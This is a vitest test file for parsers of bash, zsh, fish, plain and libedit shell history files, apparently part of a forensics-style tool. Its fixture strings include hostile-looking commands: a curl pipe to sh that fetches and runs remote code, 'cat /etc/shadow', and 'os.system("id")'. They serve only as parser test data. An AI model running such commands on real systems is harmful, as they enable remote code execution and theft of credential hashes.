import { describe, expect, it } from 'vitest';
import {
  parseBashHistory,
  parseFishHistory,
  parsePlainHistory,
  parseZshHistory,
  unmetafyZsh,
} from './history.js';

async function all<T>(gen: AsyncGenerator<T>): Promise<T[]> {
  const out: T[] = [];
  for await (const x of gen) out.push(x);
  return out;
}

describe('bash', () => {
  it('dates the command after each #<epoch> line', async () => {
    expect(
      await all(
        parseBashHistory(['#1795313600', 'id', 'ls', '#1795313700', 'curl -fsSL http://x/y | sh', '']),
      ),
    ).toEqual([
      { line: 2, command: 'id', time: 1795313600 },
      { line: 3, command: 'ls', time: null },
      { line: 5, command: 'curl -fsSL http://x/y | sh', time: 1795313700 },
    ]);
  });

  it('keeps comment-like commands that are not time stamps', async () => {
    expect(await all(parseBashHistory(['# note', '#12a', '  ']))).toEqual([
      { line: 1, command: '# note', time: null },
      { line: 2, command: '#12a', time: null },
    ]);
  });
});

describe('zsh', () => {
  it('reads extended and plain lines', async () => {
    expect(await all(parseZshHistory([': 1794900000:0;git pull', 'ls -la', ': 1794900100:12;make']))).toEqual(
      [
        { line: 1, command: 'git pull', time: 1794900000 },
        { line: 2, command: 'ls -la', time: null },
        { line: 3, command: 'make', time: 1794900100 },
      ],
    );
  });

  it('joins multi-line commands written with trailing backslashes', async () => {
    expect(
      await all(
        parseZshHistory([': 1794900030:2;for f in *.log; do\\', '  gzip $f\\', 'done', 'echo a\\\\']),
      ),
    ).toEqual([
      { line: 1, command: 'for f in *.log; do\n  gzip $f\ndone', time: 1794900030 },
      { line: 4, command: 'echo a\\\\', time: null },
    ]);
  });

  it('yields an unfinished continuation at end of file', async () => {
    expect(await all(parseZshHistory([': 1:0;a\\']))).toEqual([{ line: 1, command: 'a', time: 1 }]);
  });

  it('unmetafies bytes', () => {
    // "é" is C3 A9; zsh stores A9 (not special) as is, and 0x83-0x9f bytes escaped.
    expect([...unmetafyZsh(Uint8Array.of(0x61, 0x83, 0xa3, 0x62))]).toEqual([0x61, 0x83, 0x62]);
    const plain = Uint8Array.of(1, 2, 3);
    expect(unmetafyZsh(plain)).toBe(plain);
  });
});

describe('fish', () => {
  it('reads cmd and when, with escapes and paths', async () => {
    expect(
      await all(
        parseFishHistory([
          '- cmd: echo a\\nb \\\\ c',
          '  when: 1794900000',
          '- cmd: cat /etc/shadow',
          '  when: 1794900010',
          '  paths:',
          '    - /etc/shadow',
          '- cmd: ls',
        ]),
      ),
    ).toEqual([
      { line: 1, command: 'echo a\nb \\ c', time: 1794900000 },
      { line: 3, command: 'cat /etc/shadow', time: 1794900010 },
      { line: 7, command: 'ls', time: null },
    ]);
  });

  it('ignores stray lines', async () => {
    expect(await all(parseFishHistory(['  when: 1', 'garbage']))).toEqual([]);
  });
});

describe('plain and libedit', () => {
  it('reads one command a line', async () => {
    expect(await all(parsePlainHistory(['import os', '', 'os.system("id")']))).toEqual([
      { line: 1, command: 'import os', time: null },
      { line: 3, command: 'os.system("id")', time: null },
    ]);
  });

  it('decodes libedit escapes after its header', async () => {
    expect(
      await all(parsePlainHistory(['_HiStOrY_V2_', 'select\\040*\\040from\\040users;', 'a\\\\b'])),
    ).toEqual([
      { line: 2, command: 'select * from users;', time: null },
      { line: 3, command: 'a\\b', time: null },
    ]);
    expect(await all(parsePlainHistory(['x', '_HiStOrY_V2_']))).toHaveLength(2);
  });
});
